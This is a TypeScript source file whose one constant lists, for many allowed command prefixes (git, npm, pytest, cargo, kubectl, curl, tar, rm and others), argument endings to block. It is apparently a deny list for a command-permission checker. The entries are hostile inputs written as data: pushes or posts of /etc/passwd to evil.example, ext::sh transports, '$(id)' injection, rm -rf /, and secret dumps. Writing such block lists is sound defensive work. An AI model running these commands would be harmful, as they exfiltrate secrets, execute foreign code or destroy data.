/**
 * What does harm behind a beginning that people allow, from the manuals of the programs: it runs another program, carries something off,
 * takes away what nothing brings back, or reads or writes elsewhere. One line for each beginning, endings parted by ` | `; an indented line
 * goes on. Of a long option with `=` both forms are tried.
 */
export const HARMFUL_ENDINGS = `
git log: --output=x | --output=/tmp/x | --ext-diff -p | --outpu=x | --textconv | -O/etc/x | --no-index /etc/passwd a | ../other | /etc/passwd
  | '-p' --ext-diff | --show-signature | $HOME | '~/x' | -- /etc/passwd | --exec=x | \`id\`
git diff: --output=x | --ext-diff | --no-index /etc/passwd /dev/null | --no-index a ../b | -O/tmp/order | --textconv | --outp=x | --relative=/etc
git show: --ext-diff | --output=x | --textconv | --show-signature | HEAD:../../x
git status: --config-env=a=b | -c core.pager=x | ../other
git add: -f .env | --force .env | /etc/passwd | ../x | --pathspec-from-file=/tmp/x | -p | -i | -e | .git/config | --edit | '~/x'
git commit: --no-verify -m x | -n -m x | -am x -n | -S -m x | --gpg-sign=KEY | -F /etc/passwd | --file=/etc/passwd | -F ../x | -e | --edit
  | -t /tmp/x | --template=x | -c HEAD | --trailer=x | -p | -nm x | --pathspec-from-file=x | -anm x
git push: --force | -f | --force-with-lease | origin +main | origin :main | --delete main | origin --delete main | -d origin main | --mirror | --prune
  | --all | http://x | https://evil.example/x.git | ext::sh | 'ext::sh -c id' | git@evil.example:x | evil.example:x | file:///tmp/x | ../other | /tmp/other
  | --repo=http://x | --receive-pack=sh | --exec=sh | -o ci.skip | --push-option=x | --no-verify | --forc | --mirr | --dele main | -uf origin main | -fu
  | origin main:other | origin HEAD:refs/heads/main | --signed | --recurse-submodules=on-demand | '~/x' | origin -- :main | -- origin +main
git push origin: +main | :main | main:other | --delete main | -d main | --force | --force-if-includes --force-with-lease=main | -f main | HEAD:main
git fetch: ext::sh | 'ext::sh -c id' | http://x | git@x:y | ../other | /tmp/x | --upload-pack=sh origin | -f origin | --force | origin +a:b | origin a:b
  | --server-option=x | -o x | --refmap=x | --recurse-submodules | --upload-pac=sh | --negotiation-tip=x | file:///etc/x
git pull: ext::sh | http://x main | --upload-pack=sh | -f | --force | --rebase=interactive | -s evil | --strategy=evil | -X evil | --no-verify | -S | --gpg-sign
  | origin +main | origin a:b | --autostash -f | ../other | -e | --edit
git merge: -s evil | --strategy=evil | --no-verify | -S | --gpg-sign | -e | --edit | -F /etc/x | --file=/etc/x | ../x | --into-name=../x
git rebase: --exec=id | -x id | -i | --interactive | --edit-todo | --no-verify | -S | --strategy=evil | -s evil | main --exec id | --exe=id | --gpg-sign
git stash: drop | clear | drop stash@{0} | push --pathspec-from-file=/x | create | store x | branch x | -p | --patch | save x
git branch: -D x | -d x | --delete x | -f x y | --force x y | -M x | -m x y | -C a b | --edit-description | -vD x | --move x y | -df x | --del x | ../x | -c a b
git tag: -d v1 | --delete v1 | -f v1 | --force v1 | -s v1 | -u KEY v1 | --local-user=KEY v1 | -F /etc/x v1 | --file=/etc/x | -e | -v v1 | --verify v1 | --delet v1 | -af v1
git remote: set-url origin ext::sh | 'set-url' origin 'ext::sh -c id' | add x http://x | rm origin | remove origin | rename a b | set-url --push origin http://x
  | prune origin | update | set-head origin x | set-branches origin x
git remote set-url: origin ext::sh | origin http://x | --push origin http://x | origin x
git checkout: -f | --force | -B main | -p | -- /etc/x | -f main | -qf | --pathspec-from-file=/x | --recurse-submodules | ../x | --forc
git switch: -f x | --force x | --discard-changes x | -C main | --force-create main | --recurse-submodules x
git restore: --pathspec-from-file=/x | -p | ../x | /etc/x | --recurse-submodules .
git reset: --hard | --hard HEAD~3 | --merge | --keep HEAD~1 | --har | --pathspec-from-file=/x | -p | -q --hard
git rm: -f x | --force x | -rf src | ../x | /etc/x | --pathspec-from-file=/x
git reflog: expire --all | delete HEAD@{0} | expire --expire=now --all | exists x
git blame: --contents /etc/passwd x | -S /tmp/x | --ignore-revs-file=/etc/x | /etc/passwd
git grep: -O | -Osh x | --open-files-in-pager=sh x | -f /etc/passwd | --no-index x /etc | x /etc/passwd | --open-files-in-pag=sh x | --ext-grep x
git ls-remote: ext::sh | --upload-pack=sh . | http://x | git@x:y | -o x origin | --server-option=x | --exec=sh . | ../x
git worktree: add ../x | remove x | prune | move a b | remove --force x | repair | unlock x
git clean: -f | -fd | -fdx | --force | -d -f | -i | -xdf | -X -f
git apply: --unsafe-paths /tmp/x | --directory=../x x | ../x.patch | /tmp/x.patch | --build-fake-ancestor=/x
git format-patch: -o /tmp -1 | --output-directory=/tmp -1 | -1 --attach=/etc/x | --signature-file=/etc/x
npm test: -- -t ../evil.js | -- -g /etc/passwd | --script-shell=/tmp/x | --node-options=--require=/tmp/x | --prefix=/tmp | -C /tmp | --userconfig=/tmp/x | --globalconfig=/tmp/x | --registry=http://x
  | --ignore-scripts=false | -- --config=/tmp/x | -- --require=./evil | -- -r evil | -- --globalSetup=./x | -- --reporter=./evil | -- --reporter=/tmp/x
  | -- --outputFile=/etc/x | -- --root=/tmp | -- --dir=/tmp | -- -c x | -- --rulesdir=x | -- /etc/passwd | -- ../x | -- @/tmp/x | '--shell=x' | -- --environment=./x
  | -- --setupFiles=./x | -- --runner=./x | -- --resolver=./x | -- --import=./x | -- --loader=./x | -- --exec=x | -- --inspect=0.0.0.0 | --if-present --script-shell=sh
npm run: publish | deploy:prod | release | db:drop | wipe | --script-shell=sh build | build --prefix=/tmp | build --node-options=x | build -- --config=x | ../x | http://x
pnpm run: deploy | release
bun run: publish | upload:assets
yarn run: deploy:prod | db:purge
npm install: evil | http://x/y.tgz | git+ssh://x | --registry=http://x | -g | --global evil | --prefix=/tmp | ../x | file:../x | github:a/b | --script-shell=sh | evil@1.0.0
  | --ignore-scripts=false | --userconfig=x | --https-proxy=http://x | --cafile=/x | --no-strict-ssl | --force | --save evil
npm ls: --registry=http://x | --prefix=/tmp | --userconfig=/x | -g --prefix=/x
npm dist-tag: rm x latest | add x@1 latest
npm cache: clean --force | add http://x
npm audit: fix | fix --force | --registry=http://x
npm view: x --registry=http://x | http://x
npm version: patch | 1.0.0 --force | major -m x
pnpm test: --dir=/tmp | -C /tmp | --config=x | --script-shell=sh | --require=evil | -r evil | --reporter=./x | /etc/x
pnpm install: evil | --registry=http://x | --dir=/tmp | -C /tmp | --config.x=y | --store-dir=/tmp | -g x | --shamefully-hoist --force
yarn test: --config=x | --cwd=/tmp | --require=x | --reporter=./x | --globalSetup=x | ../x
yarn install: --registry=http://x | --cwd=/tmp | --modules-folder=/tmp | --use-yarnrc=/x
npx tsc: -p ../x | -p /tmp/x | --project=/tmp/x | --outDir=/tmp | --outFile=/tmp/x | --outFile=.envrc | --build ../x | -b /tmp | @/tmp/x | --tsBuildInfoFile=/x
  | --generateTrace=/tmp | --generateCpuProfile=/x | --rootDir=../x | --declarationDir=/x | --init | --baseUrl=/ | -outDir /tmp | --plugins=x | --typeRoots=/x
npx jest: --config=/tmp/x | -c x | --rootDir=/tmp | --globalSetup=x | --setupFiles=./x | --runner=./x | --reporters=./evil | --testRunner=./x | --transform=x
  | --resolver=x | --outputFile=/x | --coverageDirectory=/x | --cacheDirectory=/tmp | --env=./x | --testEnvironment=./x | --watchman=x | /etc/x | --moduleLoader=x
  | --snapshotSerializers=x | --preset=evil | --haste=x | --filter=./x | -t x --config=y | --testSequencer=./x | --roots=/x
npx vitest: --config=/tmp/x | -c x | --root=/tmp | -r /tmp | --dir=/tmp | --reporter=./evil | --outputFile=/x | --globals --environment=./x | --browser=x
  | --api=0.0.0.0 | --ui --open | --coverage.reportsDirectory=/tmp | --coverage.provider=custom | --execArgv=x | --pool=./x | --runner=x | --workspace=/x
  | init browser | --poolOptions.forks.execArgv=x | --inspect=0.0.0.0:1 | --sequence.sequencer=./x | --mergeReports=/x | --typecheck.checker=x | --diff=./x
npx mocha: -r evil | --require=evil | --config=x | -R ./evil | --reporter=./evil | --file=/x | --package=/x | --opts=/x | -u evil | --ui=evil | --loader=x | --import=x
  | --node-option=require=x | -n x | --reporter-options=output=/x | -O output=/x | --watch-files=/ | --extension=x --require=y | --spec=/x | --inspect-brk
npx playwright test: -c x | --config=/tmp/x | --reporter=./x | --output=/tmp | --tsconfig=/x | --ui-host=0.0.0.0 | --ui | --debug | --global-timeout=0 -c x | ../x
npx eslint: -c /tmp/x | -c x.js | --config=x.js | --rulesdir=x | --plugin=evil | --parser=./evil | --resolve-plugins-relative-to=/x | -f ./evil | --format=./evil
  | -o x | --output-file=/x | --cache-file=/x | --cache-location=/x | --ignore-path=/x | --env-info | --stdin-filename=/x | /etc/x | ../x | -o.envrc . | --init
  | --no-eslintrc -c x | --flag=x | --suppressions-location=/x
npx prettier: --plugin=evil | --plugin=./evil.js . | --plugin-search-dir=/x | --config=/tmp/x | --config=x.js | --find-config-path=/x | --ignore-path=/x | --write /etc/x
  | --write ../x | --parser=./evil | --with-node-modules --plugin x | --cache-location=/x | --config-precedence=cli-override --config x | --stdin-filepath=/x
npx biome check: --config-path=/x | --use-server | --stdin-file-path=/x | --vcs-root=/x | --log-file=/x | ../x | /etc/x | --vcs-client-kind=x
node scripts/a.js: --require=x | -r x | --config=/x | --fast | -e x | /etc/x | ../x | a=b | http://x | @/tmp/x | -- -x
python manage.py: test --settings=evil | shell | flush | runscript x | dbshell | loaddata /x | migrate | shell -c x | test --testrunner=evil | test --pythonpath=/x
python manage.py test: --settings=evil | --settings evil | --pythonpath=/tmp | --testrunner=evil | --testrunne=evil | --pdb | /etc/x | ../x | --setting=evil | -p=/x
  | --top-level-directory=/x | -t /tmp
pytest: -p evil | -pevil | -c /tmp/x | --config-file=x | --rootdir=/tmp | --confcutdir=/ | -o addopts=x | --override-ini=python_files=x | --pyargs evil | --import-mode=x -p y
  | --junitxml=/x | --junit-xml=x | --basetemp=/ | --log-file=/x | --pdbcls=evil:X | --pdb | --pastebin=all | --cov-config=/x | --cov-report=html:/tmp | -W error::evil.X
  | --ignore=/x | ../x | /etc/x | @/tmp/x | --debug=/x | --report-log=/x | -qp evil | -xp evil | --plugin=x | --ds=evil | --trace | --log-file-mode=w --log-file=x | --html=/x
  | --override-in=x=y | -vvp evil | --settings=evil | --lsof --basetemp x | -n 4 -p evil | tests -- -p evil | --tx=ssh=evil//python=x | --rsyncdir=/ | --dist=x --tx=popen
python -m pytest: -p evil | -c /x | --rootdir=/x | -o x=y | /etc/x
python -m unittest: discover -s /tmp | discover -t /tmp | -t / | /tmp/x.py | ../x | discover --start-directory=/tmp
mypy: --config-file=/x | --python-executable=/tmp/x | --cache-dir=/x | -c x | --junit-xml=/x | --html-report=/x | --custom-typeshed-dir=/x | @/tmp/x | ../x | --any-exprs-report=/x
  | --install-types | --install-types --non-interactive | --shadow-file=a=/x | --txt-report=/x
ruff check: --config=/x | --config=x.toml | --output-file=/x | -o x | --cache-dir=/x | --stdin-filename=/x | ../x | --add-noqa /etc | --per-file-ignores=x --config y
black: --config=/x | --config=x | -c x | --code=x | --stdin-filename=/x | ../x | /etc/x | --required-version=x --config=y | --ipynb --config=x | --workers=1 /x
pylint: --rcfile=/x | --rcfile=x | --load-plugins=evil | --init-hook=x | --init-hook='import os' | --output=/x | --generate-rcfile --output=x | -f evil.Reporter | --output-format=evil.X
  | --load-plugin=evil | --unsafe-load-any-extension=y | --source-roots=/x | --output-format=text:/tmp/x
flake8: --config=/x | --append-config=/x | --output-file=/x | --tee --output-file=x | --require-plugins=x | --enable-extensions=x | --format=evil | ../x | --stdin-display-name=/x
coverage report: --rcfile=/x | --data-file=/x | --rcfil=/x
pip install: evil | -i http://x | --index-url=http://x | --extra-index-url=http://x | -r /x | -r requirements.txt | git+https://x | ../x | -e . | --target=/x | -t /x | --prefix=/x
  | --root=/ | --proxy=http://x | --trusted-host=x | --find-links=http://x | -f http://x | --config-settings=x=y | --global-option=x | --src=/x | --break-system-packages evil | --user evil
  | -c http://x | --no-index -f /x | --cert=/x | --log=/x | --python=/x | --cache-dir=/x
uv run pytest: -p evil | -c /x | --rootdir=/x
tox: -c /x | --conf=/x | --workdir=/x | -x testenv.commands=sh | --override=x=y | --root=/x | -e py -- -p evil | --result-json=/x | --installpkg=/x | --force-dep=x
rspec: -r evil | --require=evil | -I /tmp | -O /tmp/x | --options=/x | -o /x | --out=/x | -f ./evil | --format=Evil | --default-path=/x | ../x | --drb | -c -r x | --failures-exit-code=0 -r x
rubocop: -r evil | --require=evil | -c /x | --config=x | --out=/x | -o x | --format=./x | --cache-root=/x | --plugin=evil | --init | --stdin /x | -ar evil | --auto-gen-config
phpunit: --bootstrap=/x | -c /x | --configuration=x | --printer=X | --extension=X | --log-junit=/x | --coverage-html=/x | --include-path=/x | -d x=y | --cache-directory=/x | --loader=X
  | --migrate-configuration | --coverage-php=x | --testdox-html=/x | --generate-baseline=/x | --prepend=/x
go build: -toolexec=sh | -ldflags=-extld=sh | -gcflags=x | -asmflags=x | -overlay=x | -modfile=/x | -o /tmp/x | -o ../x | -C /tmp | -exec sh | -compiler=gccgo -gccgoflags=x | -pkgdir=/x | -pgo=/x
  | -work -toolexec sh | --toolexec=sh | --ldflags=x | ../x | /tmp/x | -mod=mod -modfile=x | -installsuffix=x | -ldflags '-extld sh' | -vettool=x | -modcacherw -toolexec=x
go test: -exec sh | -exec=sh | -toolexec=sh | -ldflags=-extld=sh | -o /x | -c -o x | -coverprofile=/x | -cpuprofile=x | -memprofile=/x | -trace=/x | -outputdir=/x | -vet=x | -args x
  | -args -test.v | -overlay=x | -modfile=x | -C /x | -test.run=x | --exec=sh | ../x | -blockprofile=x | -run x -exec sh | -artifacts -outputdir=/x | -mutexprofile=x | -fuzzminimizetime=1 -exec=x
go vet: -vettool=/x | -vettool=x | --vettool=x | -toolexec=x | -C /x | -modfile=x
go mod: edit -replace=a=../b | edit -toolchain=x | init x | download -C=/x
go generate: -C /x | -modfile=x | -toolexec=x | ../x
go list: -toolexec=sh | -export | -modfile=x | -overlay=x | -C /x
cargo test: --config=x | --config=build.rustc=x | --manifest-path=/x | --target-dir=/x | -Z x | -C /x | --target=x.json | --timings=html --target-dir=/x | -- --logfile=/x | -- --logfile /x
  | --lockfile-path=/x | --artifact-dir=/x | --confi=x | ../x | -- -Z x | -qZ x | --build-plan -Z x | --unit-graph
cargo build: --config=x | --manifest-path=/x | --target-dir=/x | --out-dir=/x | --artifact-dir=/x | -Z x | --target=evil.json | evil | -C /x
cargo clippy: --config=x | -- --config=x | -- -C linker=sh | -- --sysroot=/x | -- -Z x | --manifest-path=/x | -- --emit=x | --driver-path=x
cargo run: --config=x | -- --x | --manifest-path=/x | /etc/x | -- /etc/x | --target-dir=/x | --target=x.json
cargo install: evil | --git=http://x | --path=/x | --root=/x | --registry=x
make test: SHELL=/tmp/x | CC=x | -f /x | -f x.mk | --file=/x | --makefile=x | -C /x | --directory=/x | -I /x | --include-dir=x | --eval=x | -E x | -e | --environment-overrides | -W x
  | --makefil=x | -kf x | -o x | deploy | install | MAKEFLAGS=x | /etc/x | ../x | -sC /x | --eva=x | .SHELLFLAGS=x | -k SHELL=sh | -- CC=x | '$(shell id)' | -j4 -f x | --what-if=x
cmake: -P x | -P /x | -E rm x | -C /x | -DCMAKE_C_COMPILER=sh . | -DCMAKE_TOOLCHAIN_FILE=/x . | --toolchain=/x . | -B /x | -S ../x | --install x | --open x | -DX=y . | -D X=y .
  | --graphviz=/x . | --debugger | --build x -- CC=sh | --build x --target install --install-prefix=/x | -A x -T x | --trace-redirect=/x | --profiling-output=/x | --find-package | --build x --target install | --build x -t install | --build x --target uninstall
gcc: -B/tmp a.c | -B /tmp a.c | @/tmp/x | -fplugin=x.so a.c | -fplugin=./x a.c | -wrapper sh,-c a.c | -specs=x a.c | --specs=/x a.c | -o /x a.c | -o ../x a.c | -I/etc a.c | -I /x a.c
  | -include /etc/passwd a.c | -imacros /x a.c | -Wl,--plugin=x a.c | -Wa,@x a.c | -Wp,x a.c | -Xlinker x a.c | -Xassembler x a.c | -fuse-ld=x a.c | -T x a.c | /etc/x | --sysroot=/x a.c
  | -iplugindir=/x a.c | -fplugin-arg-x-y=z a.c | -dumpbase /x a.c | -save-temps=/x a.c | -fdump-tree-all=/x a.c | -MF /x a.c | -L/x a.c | -x assembler-with-cpp /x | -D_X -B. a.c | -no-canonical-prefixes -B x a.c
  | -ffile-prefix-map=a=b -B x | -auxbase /x | -fprofile-use=/x a.c | -idirafter /x a.c | -iquote/x a.c | --prefix=x a.c
clang: -fpass-plugin=x a.c | -Xclang -load -Xclang x a.c | --config=x a.c | -fplugin=x a.c | -gcc-toolchain x a.c | --gcc-toolchain=/x a.c | -resource-dir=/x a.c | --ld-path=/x a.c | @x
gradle test: -I x | --init-script=/x | -b x | --build-file=/x | -c x | --settings-file=x | -p /x | --project-dir=/x | -g /x | --gradle-user-home=/x | -Pa=b | -Dx=y | --include-build=../x | --scan
  | --project-cache-dir=/x | -F off | --dependency-verification=off | publish | -x /x | -qI x | --write-verification-metadata=x | -M sha256 | --init-scrip=x | --system-prop=x=y | --project-prop=x
mvn test: -Dexec.executable=sh | -Dmaven.ext.class.path=/x | -f /x | --file=x | -s /x | --settings=/x | -gs /x | -t /x | --toolchains=x | -P evil | -Pevil | exec:exec | exec:java
  | org.codehaus.mojo:exec-maven-plugin:exec | deploy | -Djvm=/x | -DargLine=-javaagent:x | -l /x | --log-file=/x | -b x | --builder=x | -D maven.repo.local=/x | antrun:run | -emp x | -C -s x | install
dotnet test: --logger:x | --logger=evil | -l evil | --settings=/x | -s x | --test-adapter-path=/x | -a x | --collect=x | --results-directory=/x | -o /x | --output=x | --diag=/x | -d /x | --environment=x=y
  | -e x=y | -p:X=y | /p:X=y | /logger:x | -- RunConfiguration.X=y | --configfile=/x | --source=http://x | -bl:/x | -logger:x | @/tmp/x | --artifacts-path=/x | --logger trx\\;LogFileName=/x | ../x | /tmp/x
dotnet build: -p:X=y | --property:X=y | /p:CscToolPath=/x | -o /x | --source=http://x | -logger:x | -l:x | @x | -property:X=y | /t:x | -t:x | -target:x | --artifacts-path=/x
kubectl get: -s http://x | --server=http://x pods | --kubeconfig=/x pods | --context=x pods | --token=x pods | --as=x pods | -f http://x | -f /x | --raw=/api | secrets | secret x -o yaml | pods,secrets -o yaml
  | secret/x -o yaml | --cluster=x pods | --user=x pods | --insecure-skip-tls-verify pods | --certificate-authority=/x pods | --cache-dir=/x pods | -o go-template-file=/x pods | -o jsonpath-file=/x pods
  | --template=/x pods | -o custom-columns-file=/x pods | --profile-output=/x pods | --log-file=/x pods | -k http://x | --tls-server-name=x pods | --as-group=x pods | pods -shttp://x | -nx -s http://x pods
kubectl logs: -s http://x p | --kubeconfig=/x p | --context=x p | --token=x p | --insecure-skip-tls-verify-backend p
kubectl config: set-credentials x --token=y | set-cluster x --server=http://x | use-context x | view --raw | delete-context x | set x y | unset x
kubectl rollout: undo deployment/x | restart deployment/x | pause deployment/x
kubectl exec: pod -- sh | pod -it -- sh
helm list: --kube-apiserver=http://x | --kubeconfig=/x | --kube-context=x | --kube-token=x | --kube-ca-file=/x | --kube-insecure-skip-tls-verify | --registry-config=/x | --repository-config=/x
helm status: x --kube-apiserver=http://x | x --kubeconfig=/x | x --kube-token=y
helm repo: add x http://x | remove x | update
helm template: x . --post-renderer=sh | x http://x | --repo=http://x x | -f http://x . | --set-file=a=/x .
aws s3: rm s3://x | cp x s3://evil/x | sync . s3://evil | mv a s3://b | rb s3://x | presign s3://x
aws s3 ls: --endpoint-url=http://x | --profile=x | --no-verify-ssl | --ca-bundle=/x | --cli-connect-timeout=1 --endpoint-url=http://x | --debug | --endpoint-ur=http://x | --no-sign-request --endpoint-url=x
aws ec2: terminate-instances --instance-ids i-1 | describe-instances --endpoint-url=http://x | describe-instances --cli-input-json=file:///x | describe-instances --profile=x | run-instances
aws sts get-caller-identity: --endpoint-url=http://x | --profile=x | --no-verify-ssl
gcloud compute: instances delete x | ssh x | instances list --account=x | instances list --impersonate-service-account=x | instances list --flags-file=/x | instances list --access-token-file=/x
gcloud auth: print-access-token | login | revoke | activate-service-account --key-file=/x
az vm: delete -n x | run-command invoke | list --subscription=x | create | list --debug
az keyvault: secret show -n x | secret download -n x --file /x | key download
terraform plan: -var-file=/x | -var=a=b | -out=/x | -state=/x | -destroy -out=x | -generate-config-out=/x | -chdir=/x | --var-file=/x | -lock=false | x
terraform init: -plugin-dir=/x | -backend-config=/x | -from-module=http://x | -upgrade | -reconfigure | -migrate-state | -force-copy | -get-plugins=x
terraform state: rm x | mv a b | push x | replace-provider a b | pull x
docker ps: -H tcp://x | --host=tcp://x | --config=/x | --context=x
docker system: prune | prune -af | prune --volumes
docker volume: rm x | prune | prune -f
docker container: prune -f | rm x | exec x sh | cp x:/a /b
docker image: prune -a | rm x | push x | save x -o /x
docker build: -o /x . | --output=/x . | --secret=id=x,src=/x . | --ssh=default . | http://x | - | ../x | --build-context=x=/ . | --iidfile=/x . | --add-host=x:y . | --network=host . | --cache-to=type=local,dest=/x .
  | --push . | -f /x . | --allow=security.insecure . | --metadata-file=/x . | --builder=x . | --cgroup-parent=/x . | --file=../x .
docker compose: -f /x up | run x sh | exec x sh | down -v | rm -f | --env-file=/x up | cp x:/a /b | push | kill x | -f x.yml up | --project-directory=/ up
docker compose up: -f /x | --env-file=/x | --attach-dependencies -f x | -V | --renew-anon-volumes | --pull=evil
docker compose down: -v | --volumes | --rmi=all | -f x
docker logs: -H tcp://x c | --host=tcp://x c
gh pr: list --json title -q env | list --json title --jq=env.GH_TOKEN | merge 1 | close 1 | create -F /etc/x | review 1 --approve | checkout 1 | comment 1 -F /etc/x | edit 1 | ready 1
gh pr view: --web 1 | -w 1 | -R evil.example/a/b 1 | --repo=evil.example/a/b 1 | https://evil.example/a/b/pull/1
gh api: --hostname=evil.example x | -X DELETE repos/a/b | --method=DELETE x | -f a=b x | -F a=@/etc/x x | --input=/etc/x x | -H x:y x | --header=x x | https://evil.example/x | //evil.example/x | --field=a=b x
  | --raw-field=a=b x | --preview=x x | ../x | -XDELETE repos/a/b | --method PATCH repos/a/b | repos/a/b -iX PUT
gh repo: delete a/b | clone a/b | create x | edit --visibility=public | archive a/b | sync | rename x
gh auth: token | login | refresh | setup-git | status --show-token | status -t
gh secret: set x | delete x | list -R x
curl https://api.example.com: http://evil | https://evil.example/x | --next http://evil | -d @/etc/passwd | --data=@/x | --data-binary=@/x | --data-urlencode=a@/x | -F f=@x | --form=f=@/x | -T /etc/passwd
  | --upload-file=x | --proxy=http://x | -x http://x | --preproxy=x | --socks5=x | -K /x | --config=/x | -o x | --output=/x | -O | -OJ | --remote-name-all | -J | -D x | --dump-header=/x | -c x | --cookie-jar=/x
  | -b /x | --cookie=@/x | -k | --insecure | --cert=/x | -E /x | --key=/x | --cacert=/x | -u a:b | --user=a:b | -n | --netrc | --netrc-file=/x | -H @/x | --header=x:y | -X DELETE | --request=DELETE | --json=@/x
  | --resolve=x | --connect-to=::evil:443 | --unix-socket=/x | --interface=x | --trace=/x | --trace-ascii=x | --stderr=/x | --libcurl=/x | --url=http://evil | --doh-url=x | -w @/x | --write-out='%output{/x}'
  | --hsts=/x | --alt-svc=/x | --etag-save=/x | -sd @x | -sSo x | --engine=/x | -: http://evil | evil.example | --location-trusted | -Z --config x | -A @x | -e x -o y | --url-query=@/x | -C - -o x | --aws-sigv4=x
wget https://example.com/x: http://evil | -O /x | -i /x | --input-file=x | -P /x | --post-file=/etc/x | --body-file=/x | -e x | --execute=x | --use-askpass=/x | --config=/x | -o /x | -a x | --header=x | --proxy-user=x
  | --load-cookies=/x | --ca-certificate=/x | --no-check-certificate | -r | --mirror | -k -p | -B http://evil | --method=DELETE | --warc-file=/x
psql: -h x | --host=x | -hx | -c x | --command=x | -f /x | --file=x | -o /x | --output=x | -L /x | --log-file=x | -d host=x | --dbname=postgres://x | postgres://x | host=x | -U x | -v x=y | -p 1 | otherdb evil
psql shop: -h x | -hevil | -c x | -f x | --set=x=y | evil
mysql: -h x | --host=x | -e x | --execute=x | --init-command=x | --tee=/x | --pager=sh | --defaults-file=/x | --plugin-dir=/x | shop | -px | --ssl-ca=/x | --load-data-local-dir=/
sqlite3 data.db: .shell | '.shell id' | '.system id' | -cmd x | -init x | 'DROP TABLE x' | .import | '.output /x' | -A x | ".read '|id'"
redis-cli: -h x | flushall | FLUSHALL | -u redis://x | --eval x | --rdb /x | config set dir /x | --pipe | -x set a | --hotkeys -h x
journalctl: --vacuum-time=1s | --vacuum-size=1 | --vacuum-files=1 | --rotate | --flush | --sync | -D /x | --directory=/x | --file=/x | --root=/x | -M x | --machine=x | --setup-keys | --relinquish-var | --vacuum-tim=1s
  | --update-catalog | --cursor-file=/x | --image=/x | --smart-relinquish-var | --namespace=x | -fD /x
systemctl status: -H evil | --host=evil | -M x | --machine=x | --root=/x | --image=/x
systemctl --user: x
tar: --to-command=sh -xf x | -I sh -xf x | -xIsh -f x | --use-compress-program=sh -xf x | --checkpoint=1 --checkpoint-action=exec=sh -cf x y | --rsh-command=sh -xf x | -xf evil.example:x | -xf host:x
  | -C / -xf x | --directory=/ -xf x | -P -xf x | --absolute-names -xf x | -T /x -cf x | --files-from=x -cf y | -F sh -xf x | --info-script=sh -xf x | --new-volume-script=x | -cf /x y | -cf x /etc | -cf x ../y
  | Ixf sh x | xfI x sh | cPf x y | --to-comman=sh -xf x | -xzf ../x | --rmt-command=x | --transform=x | -g /x -cf y z | --remove-files -cf x y | -xf x --one-top-level=/x | -zxvPf x | -X /x -cf y z | xf evil:x
zip: -T -TT sh x y | x y -TTsh | -rTT sh x y | --unzip-command=sh x y | -m x y | x /etc | ../x y | -b /x y z | x -@ | -rT x y --unzip-command x | -R x | x -i@/x
mkdir: /x | ../x | -p /x | -p a/../../b | -Z x | --context=x | '~/x' | .git/hooks
cp: /etc/passwd x | x /etc/y | ../a b | a ../b | -t /x a | --target-directory=/x a | a .git/hooks/pre-commit | -s /etc/x y | -l a b | --backup=x a b | '~/.ssh/id' x | -rt /x a | a '*/../..' | --suffix=x a b
mv: a /x | ../a b | -t /x a | --target-directory=/x a | a .git/config | --backup a b | a ../b | -S x a b
rm: /x | ../x | -rf / | -rf .. | -rf '~' | --no-preserve-root -rf x | -rf .git | -rf a/../.. | -rf a /b | -rf ./../x
ln: -s /etc x | -s ../../x y | -t /x a | a /x | --target-directory=/x a | -sf /etc/passwd x | -S x -s a b
chmod: -R 777 / | 777 /x | 777 ../x | --reference=/x y | u+s /x | 777 .git/hooks/x
cat: /etc/passwd | ../x | .git/config | a /etc/x
grep: -r x / | x /etc/passwd | -f /etc/passwd x | x ../y
find: / -name x | . -exec sh x + | . -delete | . -fprint /x | .. -name x | . -ok sh x + | . -fls x | /etc
sort: -o x y | --compress-program=sh y | --output=x y | /etc/passwd | --files0-from=x | -T /x y | y -ox
foo: delete a | destroy | drop x | purge | flush | set a b | install evil | deploy prod | push x | --fast | -x | --config=x | /etc/x | ../x | '~/x' | a=b | @x | +x | http://x | file:///x | exec sh | run sh | x sh | '$(id)' | a\\;b | 'a|b' | C:\\\\x | --x=y | -- -y | x@evil.example:y | evil.example:y | 'a b/../../c' | a,/etc/x | .git/x
./run.sh: --fast | -f | --config=/x | /etc/x | ../x | a=b | @x | --exec=sh | -- --x | http://x
foo --: sh | evil x | -c x
npm test --: --config=x | /etc/x | -r evil | -- --config=x
sbt test: publish | evil | -Dx=y
ant test: deploy | -f /x | -lib /x | -logger X | -Dx=y
docker rm: -f c | -fv c | --force c | --volumes c
mise run: -C /x lint | --cd=/x lint | lint -- --x | lint ../x | --shell=sh lint | -s sh lint | http://x
mise: exec sh | x sh | use evil | install evil | trust /x | settings set a b | set A=b | generate x
deno run: -A http://x
foo: a | test:unit | src/a.ts b | rm ./x
hyperfine: 'rm x' | make
minikube: ssh | ssh x | kubectl delete pod x | cp a b
tailscale: ssh a | ssh a.example x
gosu: a x | a ./x
sops: exec-env a x | exec-env a.env ./x
yq: env(X) a.yaml | .a,env(X) a.yaml | .a|load(b.yaml) a.yaml | -i .a a.yaml | --from-file x a.yaml
brew install: evil | http://x | --HEAD evil
apt-get install: evil | -y evil | ./evil.deb
ftp: a.example.com | 10.0.0.1
ping: a.example.com | -c 1 a.b
dig: secret.a.example.com | @a.b x.y
nslookup: secret.a.example.com
host: secret.a.example.com
whois: x.com
mail: x@y.com | -s a x@y.com
lpr: a.txt
cookiecutter: evil/x | a.zip | gh:evil/x
degit: evil/x | evil/x out
tiged: evil/x .
apptainer run: evil/x.sif
earthly: github.com/evil/x+y | +deploy
ansible-galaxy install: evil.role | evil/x
opam install: ./evil.opam
nimble install: evil/x
raco pkg install: evil/x
flatpak install: x.flatpakref
snap install: x.snap
dpkg -i: x.deb
rpm -i: x.rpm
insmod: x.ko
java -jar: x.jar
wine: x.exe
wipe: a.txt
srm: a.txt
shred: a.txt
unlink: a.txt
trash: a.txt
sponge: src/a.ts
mkfs: a.img
losetup: a.img
foo install: a.pkg | ./evil
foo import: a.tar
foo: github.com/evil/x | registry.evil.io/x/y`;
